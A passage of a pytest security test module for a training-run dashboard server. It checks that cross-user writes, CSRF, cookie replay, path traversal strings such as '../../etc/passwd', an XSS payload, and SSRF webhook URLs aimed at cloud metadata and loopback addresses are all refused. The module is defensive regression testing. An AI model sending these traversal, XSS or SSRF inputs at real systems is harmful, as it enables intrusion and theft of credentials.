        call("POST", "/api/runs/{ended}/status", {"status": "running"}, who="ended"),
    ),
    Attack(
        "a run's token writes to another run",
        "POST /api/runs/{id}/metrics",
        403,
        "this run token belongs to run {run}, not run {ended}",
        call("POST", "/api/runs/{ended}/metrics", METRIC, who="run"),
    ),
    Attack(
        "a run's token submits a run",
        "POST /api/runs",
        403,
        "a run token (run {run}) cannot do this; use a user token",
        call("POST", "/api/runs", spec(), who="run"),
    ),
    Attack(
        "a run's token stops its own run",
        "POST /api/runs/{id}/stop",
        403,
        "a run token (run {run}) cannot do this",
        call("POST", "/api/runs/{run}/stop", who="run"),
    ),
    Attack(
        "a read-only token writes",
        "POST /api/runs/{id}/stop",
        403,
        "token '{owner}' is read-only: it may only read (GET)",
        call("POST", "/api/runs/{run}/stop", who="reader"),
    ),
    Attack(
        "a user token acknowledges a config revision",
        "POST /api/runs/{id}/config/{revision}/ack",
        403,
        "only the run's own token acknowledges config revisions",
        call("POST", "/api/runs/{run}/config/{revision}/ack", {"process": "trainer", "step": 1}, who="bob"),
    ),
    Attack(
        "logged-out cookie replayed",
        "GET /runs",
        303,
        "-> /login?next=%2Fruns",
        lambda c: c.web["replay"][0].get("/runs", follow_redirects=False),
    ),
    Attack(
        "cookie of a revoked token",
        "GET /runs",
        303,
        "-> /login?next=%2Fruns",
        lambda c: c.web["revoked"][0].get("/runs", follow_redirects=False),
    ),
    Attack(
        "dashboard form without a CSRF token",
        "POST /runs/{id}/stop",
        403,
        "csrf: missing or wrong form token",
        form("/runs/{run}/stop", "alice", csrf=None),
    ),
    Attack(
        "dashboard form with another session's CSRF token",
        "POST /runs/{id}/stop",
        403,
        "csrf: missing or wrong form token",
        lambda c: form("/runs/{run}/stop", "alice", csrf=c.web["bob"][1])(c),
    ),
    Attack(
        "launch form without a CSRF token",
        "POST /launch",
        403,
        "csrf: missing or wrong form token",
        form("/launch", "alice", {"spec": 'name = "x"'}, csrf=None),
    ),
]

API_WRITES = [  # (method, route as listed, path, body, verb): every write on something alice owns
    ("POST", "/api/runs/{run_id}/stop", "/api/runs/{run}/stop", None, "stop it"),
    ("DELETE", "/api/runs/{run_id}", "/api/runs/{run}", None, "delete it"),
    ("PATCH", "/api/runs/{run_id}", "/api/runs/{run}", {"tags": ["mine"]}, "change its tags, notes or group"),
    ("POST", "/api/runs/{run_id}/resume", "/api/runs/{run}/resume", None, "resume it"),
    ("POST", "/api/runs/{run_id}/fork", "/api/runs/{run}/fork", {"changes": {"max_steps": 4}}, "fork from it"),
    ("POST", "/api/runs/{run_id}/exports", "/api/runs/{run}/exports", {"step": 1}, "export it"),
    ("POST", "/api/runs/{run_id}/evals", "/api/runs/{run}/evals", {"step": 1}, "evaluate its weights"),
    (
        "PATCH",
        "/api/runs/{run_id}/config",
        "/api/runs/{run}/config",
        {"changes": {"trainer.optim.lr": 5e-5}},
        "change its live config",
    ),
    (
        "POST",
        "/api/runs/{run_id}/alerts/rules",
        "/api/runs/{run}/alerts/rules",
        {"kind": "status", "statuses": ["failed"]},
        "change its alert rules",
    ),
    ("PATCH", "/api/alerts/rules/{rule_id}", "/api/alerts/rules/{rule}", {"enabled": False}, "change its alert rules"),
    ("DELETE", "/api/alerts/rules/{rule_id}", "/api/alerts/rules/{rule}", None, "change its alert rules"),
    ("POST", "/api/runs/{run_id}/status", "/api/runs/{run}/status", {"status": "paused"}, "report its status"),
    (
        "POST",
        "/api/runs/{run_id}/requeued",
        "/api/runs/{run}/requeued",
        {"restarts": 1, "job": "7"},
        "report its status",
    ),
    ("POST", "/api/runs/{run_id}/metrics", "/api/runs/{run}/metrics", METRIC, "write its metrics"),
    (
        "POST",
        "/api/runs/{run_id}/events",
        "/api/runs/{run}/events",
        {"events": [{"event": "truncated", "time": 1.0, "reason": "90% of completions truncated"}]},
        "report its status",
    ),
]
OWNED_WRITES = [  # writes on alice's global rule, webhook endpoint and delivery
    (
        "PATCH",
        "/api/alerts/rules/{rule_id}",
        "/api/alerts/rules/{global_rule}",
        {"enabled": False},
        "global alert rule {global_rule} belongs to {owner}: only its owner or an admin may change it",
    ),
    (
        "DELETE",
        "/api/alerts/rules/{rule_id}",
        "/api/alerts/rules/{global_rule}",
        None,
        "global alert rule {global_rule} belongs to {owner}: only its owner or an admin may delete it",
    ),
    (
        "DELETE",
        "/api/webhooks/{endpoint_id}",
        "/api/webhooks/{hook}",
        None,
        "webhook endpoint {hook} belongs to {owner}: only its owner or an admin may delete it",
    ),
    (
        "POST",
        "/api/deliveries/{delivery_id}/replay",
        "/api/deliveries/{delivery}/replay",
        None,
        "webhook endpoint {hook} belongs to {owner}: only its owner or an admin may replay its deliveries",
    ),
    (
        "POST",
        "/api/sweeps/{sweep_id}/stop",
        "/api/sweeps/{sweep}/stop",
        None,
        "sweep {sweep} belongs to {owner}: only its owner or an admin may stop it",
    ),
    (
        "POST",
        "/api/pipelines/{pipeline_id}/stop",
        "/api/pipelines/{pipeline}/stop",
        None,
        "pipeline {pipeline} belongs to {owner}: only its owner or an admin may stop it",
    ),
    (
        "POST",
        "/api/pipelines/{pipeline_id}/resume",
        "/api/pipelines/{pipeline}/resume",
        None,
        "pipeline {pipeline} belongs to {owner}: only its owner or an admin may resume it",
    ),
]
CREATES = {
    ("POST", "/api/runs"),
    ("POST", "/api/alerts/rules"),
    ("POST", "/api/webhooks"),
    ("POST", "/api/sweeps"),
    ("POST", "/api/pipelines"),
}
"""Writes that own nothing yet: any member may (a viewer may not: the viewer rows)."""
RUN_TOKEN_ONLY = {("POST", "/api/runs/{run_id}/config/{revision}/ack")}
FORMS = [  # (form route, path, fields, verb): every dashboard form on something alice owns
    ("/runs/{run_id}/stop", "/runs/{run}/stop", {}, BELONGS + "stop it"),
    ("/runs/{run_id}/resume", "/runs/{run}/resume", {}, BELONGS + "resume it"),
    (
        "/runs/{run_id}/delete",
        "/runs/{ended}/delete",
        {},
        "run {ended} belongs to {owner}: only its owner or an admin may delete it",
    ),
    ("/runs/{run_id}/fork", "/runs/{run}/fork", {"changes": "max_steps = 4"}, BELONGS + "fork from it"),
    ("/runs/{run_id}/export", "/runs/{run}/export", {"step": "1"}, BELONGS + "export it"),
    ("/runs/{run_id}/evaluate", "/runs/{run}/evaluate", {"step": "1"}, BELONGS + "evaluate its weights"),
    ("/runs/{run_id}/config", "/runs/{run}/config", {"trainer.optim.lr": "5e-5"}, BELONGS + "change its live config"),
    ("/runs/{run_id}/annotate", "/runs/{run}/annotate", {"tags": "mine"}, BELONGS + "change its tags, notes or group"),
    (
        "/alerts/rules/{rule_id}/enabled",
        "/alerts/rules/{rule}/enabled",
        {"enabled": "false"},
        BELONGS + "change its alert rules",
    ),
    (
        "/alerts/rules/{rule_id}/threshold",
        "/alerts/rules/{rule}/threshold",
        {"value": "1.0"},
        BELONGS + "change its alert rules",
    ),
    (
        "/alerts/deliveries/{delivery_id}/replay",
        "/alerts/deliveries/{delivery}/replay",
        {},
        "webhook endpoint {hook} belongs to {owner}: only its owner or an admin may replay its deliveries",
    ),
    (
        "/pipelines/{pipeline_id}/stop",
        "/pipelines/{pipeline}/stop",
        {},
        "pipeline {pipeline} belongs to {owner}: only its owner or an admin may stop it",
    ),
    (
        "/pipelines/{pipeline_id}/resume",
        "/pipelines/{pipeline}/resume",
        {},
        "pipeline {pipeline} belongs to {owner}: only its owner or an admin may resume it",
    ),
]
FORM_CREATES = {"/launch", "/alerts/rules", "/alerts/webhooks"}

SECOND_USER = [
    Attack(
        f"second user: {verb.split(': only')[0] if ': only' in verb else verb}",
        f"{method} {route}",
        403,
        verb if "{" in verb else BELONGS + verb,
        call(method, path, body, who="bob"),
    )
    for method, route, path, body, verb in API_WRITES + OWNED_WRITES
] + [
    Attack(f"second user's form: {route}", f"POST {route}", 403, verb, form(path, "bob", fields))
    for route, path, fields, verb in FORMS
]
VIEWER_ROWS = (
    [
        Attack(
            f"viewer writes: {method} {route}", f"{method} {route}", 403, VIEWER, call(method, path, body, who="viewer")
        )
        for method, route, path, body, _ in API_WRITES + OWNED_WRITES
    ]
    + [
        Attack("viewer submits a run", "POST /api/runs", 403, VIEWER, call("POST", "/api/runs", spec(), who="viewer")),
        Attack(
            "viewer submits a sweep",
            "POST /api/sweeps",
            403,
            VIEWER,
            call("POST", "/api/sweeps", {"base": spec(), "grid": {"trainer.optim.lr": [1e-4]}}, who="viewer"),
        ),
        Attack(
            "viewer submits a pipeline",
            "POST /api/pipelines",
            403,
            VIEWER,
            call("POST", "/api/pipelines", {"stages": [{"kind": "rl", "base": spec()}]}, who="viewer"),
        ),
        Attack(
            "viewer adds a global rule",
            "POST /api/alerts/rules",
            403,
            VIEWER,
            call("POST", "/api/alerts/rules", {"kind": "status", "statuses": ["failed"]}, who="viewer"),
        ),
        Attack(
            "viewer adds a webhook",
            "POST /api/webhooks",
            403,
            VIEWER,
            call("POST", "/api/webhooks", {"url": "https://example.com/h"}, who="viewer"),
        ),
    ]
    + [
        Attack(f"viewer's form: {route}", f"POST {route}", 403, VIEWER, form(path, "viewer", fields))
        for route, path, fields, _ in FORMS
    ]
    + [
        Attack(
            "viewer's form: /launch", "POST /launch", 403, VIEWER, form("/launch", "viewer", {"spec": 'name = "v"'})
        ),
        Attack(
            "viewer's form: /alerts/rules",
            "POST /alerts/rules",
            403,
            VIEWER,
            form("/alerts/rules", "viewer", {"kind": "status"}),
        ),
        Attack(
            "viewer's form: /alerts/webhooks",
            "POST /alerts/webhooks",
            403,
            VIEWER,
            form("/alerts/webhooks", "viewer", {"url": "https://example.com/h"}),
        ),
    ]
)

TRAVERSAL = [
    Attack(
        "log process ../../etc/passwd",
        "GET /api/runs/{id}/logs",
        422,
        "query.process: expected 'trainer', 'orchestrator', 'inference', 'inference-<i>'",
        call("GET", "/api/runs/{run}/logs?process=../../etc/passwd"),
    ),
    Attack(
        "log process %2e%2e%2f (encoded)",
        "GET /api/runs/{id}/logs",
        422,
        "query.process: expected 'trainer'",
        call("GET", "/api/runs/{run}/logs?process=%2e%2e%2fsecret_key"),
    ),
    Attack(
        "rollouts step -1",
        "GET /api/runs/{id}/rollouts",
        422,
        "query.step: Input should be greater than or equal to 0",
        call("GET", "/api/runs/{run}/rollouts?step=-1"),
    ),
    Attack(
        "a rollout id of another run",
        "GET /api/runs/{id}/rollouts/{rid}",
        404,
        "rid: rollout {ended}-1-0 is of run {ended}, not of run {run}",
        call("GET", "/api/runs/{run}/rollouts/{ended}-1-0"),
    ),
    Attack(
        "rollout id 1-2 (not <run>-<step>-<line>)",
        "GET /api/runs/{id}/rollouts/{rid}",
        422,
        "rid: expected <run>-<step>-<line> (whole numbers, e.g. {run}-1-0), got '1-2'",
        call("GET", "/api/runs/{run}/rollouts/1-2"),
    ),
    Attack(
        "a run's token reads another run's rollout",
        "GET /api/runs/{id}/rollouts/{rid}",
        403,
        "this run token belongs to run {run}, not run {ended}",
        call("GET", "/api/runs/{ended}/rollouts/{ended}-1-0", who="run"),
    ),
    Attack(
        "fork from a checkpoint step that does not exist",
        "POST /api/runs/{id}/fork",
        422,
        "step: run {run} has no complete checkpoint at step 99 (complete: [2])",
        call("POST", "/api/runs/{run}/fork", {"step": 99}),
    ),
    Attack(
        "fork named ../../x",
        "POST /api/runs/{id}/fork",
        422,
        "name: expected 1-100 characters",
        call("POST", "/api/runs/{run}/fork", {"name": "../../x"}),
    ),
    Attack(
        "static file ../../server/core/config.py",
        "GET /static/{name}",
        404,
        "Not Found",
        lambda c: c.api.get("/static/..%2f..%2fserver%2fcore%2fconfig.py"),
    ),
    Attack(
        "static file ..%2F secret_key",
        "GET /static/{name}",
        404,
        "Not Found",
        lambda c: c.api.get("/static/..%2F..%2F..%2Fhome%2Fsecret_key"),
    ),
]

XSS = [
    Attack(
        "<script> in the run name",
        "POST /api/runs",
        422,
        "name: expected 1-100 characters",
        submit(name="<script>alert(1)</script>"),
    ),
    Attack(
        "<script> in a spec value shown on the compare page",
        "GET /compare",
        200,
        "escaped: &lt;script&gt;",
        xss_page("spec"),
    ),
    Attack(
        "<script> in a status reason (run token)", "GET /runs/{id}", 200, "escaped: &lt;script&gt;", xss_page("reason")
    ),
    Attack("<script> in a webhook name", "GET /alerts", 200, "escaped: &lt;script&gt;", xss_page("webhook")),
]

SWEEPS_AND_STAGES = [
    Attack(
        "a sweep's random range on a text key (model.name = '0.84')",
        "POST /api/sweeps",
        422,
        "random.model.name: a text key; a random range draws numbers, so only numeric keys take one",
        call("POST", "/api/sweeps", {"base": spec(), "random": {"model.name": {"low": 0, "high": 1}}}),
    ),
    Attack(
        "a sweep's grid of numbers on a text key",
        "POST /api/sweeps",
        422,
        "grid.model.name: 0.5 is a number, but model.name takes text",
        call("POST", "/api/sweeps", {"base": spec(), "grid": {"model.name": [0.5]}}),
    ),
    Attack(
        "a pipeline's rl stage 1 names a model (replaced by stage 0's weights)",
        "POST /api/pipelines",
        422,
        "stages[1].model.name: this rl stage starts from stage 0's final weights (<run_dir>/final); leave model.name "
        "out",
        call("POST", "/api/pipelines", {"stages": [{"kind": "rl", "base": spec()}, {"kind": "rl", "base": spec()}]}),
    ),
]

SSRF_TARGETS = [  # (URL host, the host as the URL parser normalises it, the address judged, why it is refused)
    ("169.254.169.254", "169.254.169.254", "169.254.169.254", "a cloud metadata address"),
    ("100.100.100.200", "100.100.100.200", "100.100.100.200", "a cloud metadata address"),
    ("127.0.0.1", "127.0.0.1", "127.0.0.1", "a loopback address"),
    ("10.0.0.1", "10.0.0.1", "10.0.0.1", "a private address"),
    ("[::1]", "::1", "::1", "a loopback address"),
    (
        "[::ffff:169.254.169.254]",
        "::ffff:a9fe:a9fe",
        "::ffff:a9fe:a9fe (IPv4 169.254.169.254)",
        "a cloud metadata address",
    ),
    ("0.0.0.0", "0.0.0.0", "0.0.0.0", "a loopback address"),
    ("2130706433", "127.0.0.1", "127.0.0.1", "a loopback address"),  # 127.0.0.1 as one decimal number
    ("0x7f.1", "127.0.0.1", "127.0.0.1", "a loopback address"),  # and in hex, two parts
    ("100.64.0.1", "100.64.0.1", "100.64.0.1", "a shared address space address, 100.64.0.0/10"),
    ("192.168.1.1", "192.168.1.1", "192.168.1.1", "a private address"),
]
SSRF_ROWS = [
    Attack(
        f"webhook to {target}",
        "POST /api/webhooks",
        422,
        SSRF.format(host=host, shown=shown) + reason,
        hook(f"http://{target}/hook"),
    )
    for target, host, shown, reason in SSRF_TARGETS
] + [
    Attack(
        "webhook to localhost (a name resolving to loopback)",
        "POST /api/webhooks",
        422,
        "url: localhost resolves to ",
        hook("http://localhost:8080/hook"),
    ),
    Attack(
        "webhook to metadata.google.internal",
        "POST /api/webhooks",
        422,
        "url: metadata.google.internal is a cloud metadata service",
        hook("http://metadata.google.internal/computeMetadata/v1/"),
    ),
    Attack(
        "webhook to a DNS name resolving to 169.254.169.254",
        "POST /api/webhooks",
        422,
        "url: meta.attacker.example resolves to 169.254.169.254, a cloud metadata address",
        hook_via_dns("meta.attacker.example", "169.254.169.254"),
    ),
    Attack(
        "webhook to a DNS name resolving to 10.0.0.1",
        "POST /api/webhooks",
        422,
        "url: intra.attacker.example resolves to 10.0.0.1, a private address",
        hook_via_dns("intra.attacker.example", "10.0.0.1"),
    ),
    Attack(
        "webhook to file:///etc/passwd",
        "POST /api/webhooks",
        422,
        "body.url: URL scheme should be 'http' or 'https'",
        hook("file:///etc/passwd"),
    ),
    Attack(
        "webhook to metadata in the dashboard form",
        "POST /alerts/webhooks",
        422,
        "url: 169.254.169.254 resolves to 169.254.169.254, a cloud metadata address",
        form("/alerts/webhooks", "alice", {"url": "http://169.254.169.254/latest/meta-data/", "events": "threshold"}),
    ),
    Attack(
        "another user reads an internal receiver's error body",
        "GET /api/webhooks/{id}/deliveries",
        200,
        "HTTP 500",
        internal_error_body,
    ),
]

ATTACKS: list[Attack] = (
    CODE
    + ADDRESSES
    + LIMITS
    + BODIES
    + AUTH
    + SECOND_USER
    + VIEWER_ROWS
    + TRAVERSAL
    + XSS
    + SWEEPS_AND_STAGES
    + SSRF_ROWS
)


# ----------------------------------------------------------------------------- fixtures and tests


@pytest.fixture(scope="module")
def ctx(client: Any) -> Iterator[Ctx]:
    from fastapi.testclient import TestClient
    from sqlalchemy import delete
    from sqlmodel import Session, col, select

    from server.alerts.models import AlertEvent, AlertRuleRow, WebhookDelivery, WebhookEndpoint
    from server.core.db import engine
    from server.main import app
    from server.services import tokens

    names = {role: f"{role}-{secrets.token_hex(3)}" for role in ("alice", "bob", "viewer", "admin", "gone")}
    plain = {
        "alice": new_token(names["alice"], role="member"),
        "bob": new_token(names["bob"], role="member"),
        "viewer": new_token(names["viewer"], role="viewer"),
        "reader": new_token(names["alice"], scope="read", role="member"),
        "admin": new_token(names["admin"], role="admin"),
        "revoked": new_token(names["gone"], role="member"),
    }
    h = {who: {"Authorization": f"Bearer {token}"} for who, token in plain.items()}
    h["none"] = {}
    h["basic"] = {"Authorization": "Basic YWRtaW46YWRtaW4="}
    h["forged"] = {"Authorization": "Bearer asyncrl_" + secrets.token_urlsafe(32)}
    c = Ctx(api=client, web={}, h=h)

    run = client.post("/api/runs", json=spec(), headers=h["alice"]).json()
    set_status(client, run["id"], "starting", "running")
    checkpoint(run, 2)
    ended = client.post("/api/runs", json=spec(), headers=h["alice"]).json()
    set_status(client, ended["id"], "starting", "running", "completed")
    rule = client.post(
        f"/api/runs/{run['id']}/alerts/rules",
        json={"kind": "threshold", "metric": "loss", "op": ">", "value": 5.0},
        headers=h["alice"],
    ).json()
    global_rule = client.post(
        "/api/alerts/rules", json={"kind": "status", "statuses": ["failed"]}, headers=h["alice"]
    ).json()
    endpoint = client.post(
        "/api/webhooks", json={"url": "http://127.0.0.1:9/hook", "events": ["threshold"]}, headers=h["alice"]
    ).json()
    fired = client.post(
        f"/api/runs/{run['id']}/metrics",
        json={"points": [{"source": "trainer", "step": 1, "name": "loss", "value": 9.0, "time": 1.0}]},
        headers=run_token_headers(run["id"]),
    )
    assert fired.status_code == 200, fired.text
    sweep = client.post(
        "/api/sweeps", json={"base": spec(), "grid": {"trainer.optim.lr": [1e-4]}}, headers=h["alice"]
    ).json()
    pipeline = client.post(
        "/api/pipelines", json={"stages": [{"kind": "rl", "base": spec()}]}, headers=h["alice"]
    ).json()
    revision = client.patch(
        f"/api/runs/{run['id']}/config", json={"changes": {"trainer.optim.lr": 5e-5}}, headers=h["alice"]
    ).json()
    with Session(engine) as s:
        delivery = s.exec(select(WebhookDelivery).where(WebhookDelivery.endpoint_id == endpoint["id"])).one()
        event = s.exec(select(AlertEvent).where(AlertEvent.run_id == run["id"])).first()
        assert event is not None
    c.ids = {
        "run": run["id"],
        "ended": ended["id"],
        "rule": rule["id"],
        "global_rule": global_rule["id"],
        "hook": endpoint["id"],
        "delivery": delivery.id,
        "event": event.id,
        "revision": revision["revision"],
        "sweep": sweep["id"],
        "pipeline": pipeline["id"],
        "owner": names["alice"],
        "viewer": names["viewer"],
        "gone": names["gone"],
        "outputs": str(STATE / "outputs" / "runs"),  # ASYNCRL_OUTPUT_DIR/runs of this session
        "model_roots": f"/nonexistent, {tempfile.gettempdir()}",  # MODEL_ROOTS of tests.support.server
        "state": str(STATE),
    }
    clients = []
    for who in ("alice", "bob", "viewer", "replay", "revoked"):
        web = TestClient(app)
        clients.append(web)
        token = plain["alice"] if who == "replay" else plain[who]
        c.web[who] = (web, login(web, token))
    replay_client = c.web["replay"][0]
    cookie = dict(replay_client.cookies)
    assert replay_client.post("/logout", data={"csrf": c.web["replay"][1]}, follow_redirects=False).status_code == 303
    replay_client.cookies.clear()
    for k, v in cookie.items():  # the cookie as it was before logout, replayed
        replay_client.cookies.set(k, v)
    with Session(engine) as s:
        tokens.revoke(s, name=names["gone"])
        s.commit()
    yield c
    for web in clients:
        web.close()
    with Session(engine) as s:  # rules for every run and endpoints would apply to later modules' runs
        s.execute(delete(AlertRuleRow).where(col(AlertRuleRow.run_id).is_(None)))
        s.execute(delete(WebhookEndpoint))
        s.commit()


@pytest.mark.parametrize("row", ATTACKS, ids=[a.attack for a in ATTACKS])
def test_attack(row: Attack, ctx: Ctx, monkeypatch: pytest.MonkeyPatch) -> None:
    from server.core.config import settings

    monkeypatch.setattr(settings, "WEBHOOK_ALLOW_PRIVATE", False)  # the service's default
    resp = row.send(ctx)
    got = answer(resp)
    assert resp.status_code == row.status, (row.attack, resp.status_code, got)
    assert got.startswith(row.expected(ctx.ids)), (row.attack, got)
    assert "\n" not in got, got  # one line


def test_nothing_an_attack_tried_changed_alices_run(ctx: Ctx) -> None:
    """After every row (pytest runs this module in order): alice's run is still running with its one revision and
    its rule enabled; her completed run, endpoint and global rule are still there."""
    c, h = ctx.api, ctx.h["alice"]
    assert c.get(f"/api/runs/{ctx.ids['run']}", headers=h).json()["status"] == "running"
    assert c.get(f"/api/runs/{ctx.ids['run']}/config", headers=h).json()["revision"] == ctx.ids["revision"]
    rules = c.get(f"/api/runs/{ctx.ids['run']}/alerts/rules", headers=h).json()["data"]
    assert [(r["id"], r["enabled"]) for r in rules if r["run_id"] == ctx.ids["run"]] == [(ctx.ids["rule"], True)]
    assert c.get(f"/api/runs/{ctx.ids['ended']}", headers=h).json()["status"] == "completed"
    assert c.get(f"/api/webhooks/{ctx.ids['hook']}", headers=h).status_code == 200
    assert (
        c.get(f"/api/runs/{ctx.ids['run']}/metrics", params={"name": "loss"}, headers=h).json()["series"][0]["total"]
        == 1
    )


def test_every_write_route_and_form_has_a_second_user_and_a_viewer_row() -> None:
    """The table covers every non-GET route of the API and the dashboard: a new write route fails here until it has
    its rows (path parameters compared as ``{}``)."""
    from fastapi.routing import APIRoute

    from server.main import app

    def norm(route: str) -> str:
        return re.sub(r"\{[^}]*\}", "{}", route)

    api, forms = set(), set()
    for route in app.routes:
        if isinstance(route, APIRoute):
            for method in route.methods - {"GET", "HEAD"}:
                (api if route.path.startswith("/api/") else forms).add(norm(f"{method} {route.path}"))
    creates, token_only = {norm(f"{m} {r}") for m, r in CREATES}, {norm(f"{m} {r}") for m, r in RUN_TOKEN_ONLY}
    owned = {norm(f"{m} {r}") for m, r, *_ in API_WRITES + OWNED_WRITES}
    owned_forms = {norm(f"POST {r}") for r, *_ in FORMS}
    form_creates = {norm(f"POST {r}") for r in FORM_CREATES}
    assert owned == api - creates - token_only
    assert owned_forms | form_creates | {"POST /login", "POST /logout"} == forms
    assert {norm(a.route) for a in SECOND_USER} == owned | owned_forms
    assert {norm(a.route) for a in VIEWER_ROWS} == (api - token_only) | owned_forms | form_creates
    assert token_only <= {norm(a.route) for a in AUTH}


def results() -> list[dict[str, str]]:
    """The table as ``benchmarks/results/attacks.json`` holds it: attack, route, answer (status and its start)."""
    return [{"attack": a.attack, "route": a.route, "answer": f"{a.status} {a.answer}"} for a in ATTACKS]


def readme_table() -> str:
    """The docs page's ``### Attacks`` table: attack (and its route), answer (status and the start of the one line)."""
    rows = ["| attack | answer |", "|---|---|"]
    for r in results():
        attack = r["attack"].replace("|", "/")
        rows.append(f"| {attack} (`{r['route']}`) | `{r['answer'].replace('|', '/')}` |")
    return "\n".join(rows)


def test_the_table_is_the_results_file_and_the_readme() -> None:
    assert json.loads(RESULTS.read_text()) == {"attacks": results(), "count": len(ATTACKS)}
    assert readme_table() in README.read_text()


if __name__ == "__main__":  # rewrite the results file and the docs page's table from this module
    RESULTS.write_text(json.dumps({"attacks": results(), "count": len(ATTACKS)}, indent=1) + "\n")
    text = README.read_text()
    start = text.index("| attack | answer |")
    end = text.index("\n\n", start)
    README.write_text(text[:start] + readme_table() + text[end:])
    shutil.rmtree(STATE, ignore_errors=True)  # the state folder tests.support.server made on import
    sys.stdout.write(f"{len(ATTACKS)} attacks written to {RESULTS} and {README.relative_to(ROOT)}\n")
